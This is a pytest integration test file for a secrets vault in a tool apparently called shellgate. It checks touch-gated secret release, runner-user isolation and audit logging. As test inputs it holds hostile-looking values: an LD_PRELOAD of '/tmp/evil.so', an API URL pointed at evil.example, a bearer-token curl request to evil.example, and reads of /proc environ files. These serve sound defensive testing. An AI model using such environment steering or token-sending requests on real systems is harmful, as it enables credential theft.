"""The vault in hardened mode, end to end as root for throwaway users: root seals a secret
(the broker asks the key); the guarded user's `railway` through its shim gets it only
after one touch, in a process the runner starts as its own user — the guarded user's
processes never hold the value, its environment cannot steer the command, and the
command's exit status, output and signals are the caller's. See docs/hardened-mode.md
"Vault secrets".
"""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import shutil
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.hardened_env import Env, hook, installed

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("git"),
    reason="needs root, useradd and git (CI runs as root)")

VALUE = "rw-tok-" + "5f0e1c9a" * 4
DIGEST = hashlib.sha256(VALUE.encode()).hexdigest()

# A stand-in for the Railway CLI: says who runs it and what it received, never the value.
STUB = """#!/bin/sh
echo "user=$(id -un)"
if [ -n "$RAILWAY_TOKEN" ]; then
  printf 'token=%s\\n' "$(printf %s "$RAILWAY_TOKEN" | sha256sum | cut -c1-64)"
else
  echo token=none
fi
echo "home=$HOME steer=${RAILWAY_API_URL:-unset} preload=${LD_PRELOAD:-unset}"
echo "cwd=$(pwd) args=$*"
case "$1" in
  sleep) echo ready; sleep "$2" ;;
  read) read -r line; echo "stdin=$line" ;;
  fail) echo "to stderr" >&2; exit 7 ;;
esac
"""


@pytest.fixture(scope="module")
def vault() -> Iterator[Env]:
    with installed(f"{os.getpid() % 100000 + 1}") as env:
        tools = env.root / "tools"
        tools.mkdir(mode=0o755)
        (tools / "railway").write_text(STUB)
        (tools / "railway").chmod(0o755)
        # root's own shellgate is the installed one (personal mode for root otherwise)
        done = subprocess.run([str(env.layout.bin / "shellgate"), "secrets", "add",
                               "RAILWAY_TOKEN", "--for", "railway"], input=VALUE,
                              capture_output=True, text=True, timeout=120, check=False,
                              cwd="/")
        assert done.returncode == 0, done.stdout + done.stderr
        yield env


def _railway(env: Env, *args: str, stdin: str | None = None, **extra: str) \
        -> subprocess.CompletedProcess[str]:
    path = f"{env.layout.shims}:{env.root / 'tools'}:/usr/bin:/bin"
    return env.run(["railway", *args], stdin=stdin, PATH=path, **extra)


def _everything_written(env: Env, *outputs: str) -> str:
    texts = list(outputs)
    for path in (env.layout.etc / "vault.json", env.layout.state / "audit.jsonl"):
        texts.append(path.read_text(errors="replace"))
    return "\n".join(texts)


def test_root_seals_it_in_the_policy_without_plaintext(vault):
    path = vault.layout.etc / "vault.json"
    st = path.stat()
    assert st.st_uid == 0 and st.st_mode & 0o777 == 0o644
    assert VALUE not in path.read_text()
    listed = vault.run(["shellgate", "secrets", "list"])
    assert listed.returncode == 0 and "RAILWAY_TOKEN" in listed.stdout
    assert VALUE not in listed.stdout


def test_only_root_manages_the_vault(vault):
    done = vault.run(["shellgate", "secrets", "add", "OTHER", "--for", "railway"],
                     stdin="x" * 20)
    assert done.returncode != 0
    assert "only root manages the vault" in done.stderr


def test_one_touch_runs_it_as_the_runner_with_the_secret(vault):
    vault.set_touch(True)
    done = _railway(vault, "status", "--json", RAILWAY_API_URL="https://evil.example",
                    LD_PRELOAD="/tmp/evil.so", LANG="C.UTF-8")
    assert done.returncode == 0, done.stderr
    runner = vault.layout.runner_user
    assert f"user={runner}" in done.stdout
    assert f"token={DIGEST}" in done.stdout
    # the caller's environment cannot steer it; its home is the runner's; cwd is the caller's
    assert "steer=unset preload=unset" in done.stdout
    assert f"home={vault.layout.runner_home}" in done.stdout
    assert f"cwd={vault.home} args=status --json" in done.stdout
    assert "RAILWAY_TOKEN" in done.stderr  # the prompt named the secret it gives
    assert VALUE not in _everything_written(vault, done.stdout, done.stderr)
    ran = [r for r in vault.audit() if r.get("event") == "ran"]
    assert ran and ran[-1]["secrets"][0]["name"] == "RAILWAY_TOKEN"
    assert ran[-1]["status"] == 0


def test_shellgate_run_gives_it_the_same_way(vault):
    vault.set_touch(True)
    path = f"{vault.layout.shims}:{vault.layout.bin}:{vault.root / 'tools'}:/usr/bin:/bin"
    done = vault.run(["shellgate", "run", "--", "railway", "status"], PATH=path)
    assert done.returncode == 0, done.stderr
    assert f"user={vault.layout.runner_user}" in done.stdout
    assert f"token={DIGEST}" in done.stdout
    assert done.stderr.count("touch your key") == 1  # one touch, not the shim's second


def test_a_directory_the_runner_may_not_enter_is_refused_in_one_line(vault):
    private = vault.home / "private"
    private.mkdir(mode=0o700, exist_ok=True)
    shutil.chown(private, vault.user, vault.user)
    path = f"{vault.layout.shims}:{vault.root / 'tools'}:/usr/bin:/bin"
    done = subprocess.run(["railway", "status"], user=vault.user, group=vault.user,
                          extra_groups=[], env=vault.env(PATH=path), cwd=private,
                          capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 126
    assert "may not enter the working directory" in done.stderr
    assert "token=" not in done.stdout


def test_exit_status_stderr_and_stdin_are_the_callers(vault):
    vault.set_touch(True)
    failed = _railway(vault, "fail")
    assert failed.returncode == 7 and "to stderr" in failed.stderr
    read = _railway(vault, "read", stdin="hello from the pipe\n")
    assert read.returncode == 0 and "stdin=hello from the pipe" in read.stdout


def test_untouched_it_is_refused_and_the_value_is_nowhere(vault):
    vault.set_touch(False)
    try:
        done = _railway(vault, "status")
    finally:
        vault.set_touch(True)
    assert done.returncode == 126
    assert "token=" not in done.stdout
    assert VALUE not in _everything_written(vault, done.stdout, done.stderr)


def test_a_program_the_user_can_replace_gets_nothing(vault):
    mine = vault.home / "bin"
    mine.mkdir(exist_ok=True)
    shutil.chown(mine, vault.user, vault.user)
    fake = mine / "railway"
    fake.write_text(STUB)
    fake.chmod(0o755)
    shutil.chown(fake, vault.user, vault.user)
    path = f"{vault.layout.shims}:{mine}:{vault.root / 'tools'}:/usr/bin:/bin"
    done = vault.run(["railway", "status"], PATH=path)
    assert done.returncode == 126
    assert "must be root's alone" in done.stderr
    assert "token=" not in done.stdout


def _sleeping(env: Env, seconds: int) -> subprocess.Popen[str]:
    """``railway sleep SECONDS`` started as the guarded user, once the command runs."""
    path = f"{env.layout.shims}:{env.root / 'tools'}:/usr/bin:/bin"
    proc = subprocess.Popen(["railway", "sleep", str(seconds)], user=env.user,
                            group=env.user, extra_groups=[], env=env.env(PATH=path),
                            cwd=env.home, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    assert proc.stdout is not None
    for line in proc.stdout:
        if line.strip() == "ready":
            break
    return proc


def _environ_holding(value: bytes) -> dict[int, int]:
    """pid → uid of every process whose environment holds ``value`` (read as root)."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if value in (entry / "environ").read_bytes():
                found[int(entry.name)] = (entry / "environ").stat().st_uid
        except OSError:
            continue
    return found


def test_no_process_of_the_user_ever_holds_the_value(vault):
    vault.set_touch(True)
    proc = _sleeping(vault, 3)
    try:
        holders = _environ_holding(VALUE.encode())
        user_uid = pwd.getpwnam(vault.user).pw_uid
        runner_uid = pwd.getpwnam(vault.layout.runner_user).pw_uid
        assert holders, "the command itself holds it: the scan must see that"
        assert set(holders.values()) == {runner_uid}
        assert user_uid not in holders.values()
        # the guarded user cannot read the command's environment either
        pid = next(iter(holders))
        peek = vault.run(["/bin/sh", "-c", f"cat /proc/{pid}/environ"])
        assert VALUE not in peek.stdout
        assert peek.returncode != 0
    finally:
        proc.wait(30)
    assert proc.returncode == 0


def test_a_signal_to_the_caller_reaches_the_command(vault):
    vault.set_touch(True)
    proc = _sleeping(vault, 30)
    started = time.monotonic()
    proc.terminate()
    proc.wait(20)
    assert time.monotonic() - started < 15
    assert proc.returncode == 128 + 15  # the command died of the TERM it was passed
    time.sleep(0.5)
    assert not _environ_holding(VALUE.encode())  # nothing left holding the secret


def test_the_audit_trail_names_secrets_and_never_values(vault):
    records = vault.audit()
    assert any(r.get("event") == "ran" for r in records)
    text = json.dumps(records)
    assert VALUE not in text and "RAILWAY_TOKEN" in text


def test_a_lease_runs_routine_commands_without_a_touch_until_locked(vault):
    path = f"{vault.layout.shims}:{vault.layout.bin}:{vault.root / 'tools'}:/usr/bin:/bin"
    vault.set_touch(True)
    opened = vault.run(["shellgate", "secrets", "unlock", "--for", "railway status",
                        "--hours", "1"], PATH=path)
    assert opened.returncode == 0, opened.stderr
    assert "RAILWAY_TOKEN" in opened.stderr and "railway status" in opened.stderr
    vault.set_touch(False)
    try:
        routine = _railway(vault, "status")
        assert routine.returncode == 0, routine.stderr
        assert f"token={DIGEST}" in routine.stdout and "touch your key" not in routine.stderr
        # outside the prefix, or with a word that could start another program: a touch
        assert _railway(vault, "up").returncode == 126
        assert _railway(vault, "status", "run").returncode == 126
        locked = vault.run(["shellgate", "secrets", "lock"], PATH=path)
        assert locked.returncode == 0 and "1 lease(s) ended" in locked.stdout
        after = _railway(vault, "status")
        assert after.returncode == 126 and "token=" not in after.stdout
    finally:
        vault.set_touch(True)
    events = [r.get("event") for r in vault.audit()]
    assert "lease-opened" in events and "lease-used" in events
    assert VALUE not in json.dumps(vault.audit())


CURL_STUB = """#!/bin/sh
# prints what a header file named by -H @FILE holds, hashed; never the value
for word in "$@"; do
  case "$word" in
    @/dev/fd/*) printf 'header=%s\\n' "$(sha256sum < "${word#@}" | cut -c1-64)" ;;
  esac
done
echo "args=$*"
"""


def test_curl_gets_its_header_from_an_unnamed_file_and_only_for_its_host(vault):
    value = "api-" + "77" * 16
    (vault.root / "tools" / "curl").write_text(CURL_STUB)
    (vault.root / "tools" / "curl").chmod(0o755)
    added = subprocess.run([str(vault.layout.bin / "shellgate"), "secrets", "add",
                            "API_TOKEN", "--for", "curl", "--host", "api.example.test"],
                           input=value, capture_output=True, text=True, timeout=120,
                           check=False, cwd="/")
    assert added.returncode == 0, added.stderr
    vault.set_touch(True)
    path = f"{vault.layout.shims}:{vault.root / 'tools'}:/usr/bin:/bin"
    header = "Authorization: Bearer ${API_TOKEN}"
    done = vault.run(["curl", "-sS", "-H", header, "https://api.example.test/v1/me"],
                     PATH=path)
    assert done.returncode == 0, done.stderr
    expected = hashlib.sha256(f"Authorization: Bearer {value}\n".encode()).hexdigest()
    assert f"header={expected}" in done.stdout
    assert value not in done.stdout + done.stderr  # argv holds the placeholder's file only
    # another host: the policy gives nothing, and asking for it by name is refused
    other = vault.run([str(vault.layout.bin / "shellgate"), "run", "--secret", "API_TOKEN",
                       "--", "curl", "-H", header, "https://evil.example/x"], PATH=path)
    assert other.returncode == 126 and "only goes to api.example.test" in other.stderr
    assert "header=" not in other.stdout and value not in other.stdout + other.stderr


def test_a_hooks_touch_approves_and_unlocks_the_command_it_lets_through(vault):
    vault.set_touch(True)
    answer, prompt = hook(vault, "railway down -y")
    assert "allow" in json.dumps(answer), answer
    assert "RAILWAY_TOKEN" in prompt  # the one touch named the secret it unlocks
    vault.set_touch(False)  # the agent's shell now runs it: no second touch is possible
    try:
        done = _railway(vault, "down", "-y")
        assert done.returncode == 0, done.stderr
        assert f"token={DIGEST}" in done.stdout and "touch your key" not in done.stderr
        again = _railway(vault, "down", "-y")  # the approval covered one run
        assert again.returncode == 126 and "token=" not in again.stdout
    finally:
        vault.set_touch(True)
    assert any(r.get("event") == "ran-approved-script" for r in vault.audit())
    assert VALUE not in json.dumps(vault.audit())


def test_after_root_removes_it_the_tool_runs_as_the_user_without_it(vault):
    vault.set_touch(True)
    done = subprocess.run([str(vault.layout.bin / "shellgate"), "secrets", "remove",
                           "RAILWAY_TOKEN"], capture_output=True, text=True, timeout=120,
                          check=False, cwd="/")
    assert done.returncode == 0, done.stderr
    plain = _railway(vault, "status")
    assert plain.returncode == 0, plain.stderr
    assert f"user={vault.user}" in plain.stdout and "token=none" in plain.stdout
